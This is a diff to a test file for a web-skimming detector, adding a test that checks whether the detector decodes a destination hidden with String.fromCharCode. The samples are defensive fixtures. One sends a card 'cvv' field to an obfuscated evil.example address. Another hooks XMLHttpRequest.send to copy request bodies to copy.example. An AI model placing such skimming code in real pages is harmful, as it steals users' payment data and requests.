@@ -114,6 +114,14 @@ describe('detectors', () => {
     assert.ok(!detected('var c = { s: "theme" }; window[c.s] = 1; localStorage.setItem("k", "dark");').has('storage-staging'));
   });
 
+  test('a helper with a rest parameter that forwards to String.fromCharCode spells the destination', () => {
+    const message = (helper: string): string => inspectSource(`const fc = ${helper}; fetch(fc(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47) + document.getElementById("cvv").value);`)
+      .evidence.find((item) => item.detector === 'form-data-exfiltration')?.message ?? '';
+    assert.match(message('(...n) => String.fromCharCode(...n)'), /to https:\/\/evil\.example\//);
+    // a helper that does something else with its arguments spells nothing
+    assert.doesNotMatch(message('(...n) => n.length'), / to /);
+  });
+
   test('request hooks are recognised through aliases of the prototype, and are strong only with an outside host', () => {
     const hook = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return send.apply(this, arguments); };';
     assert.equal(detected(hook).get('request-interception'), 'high');
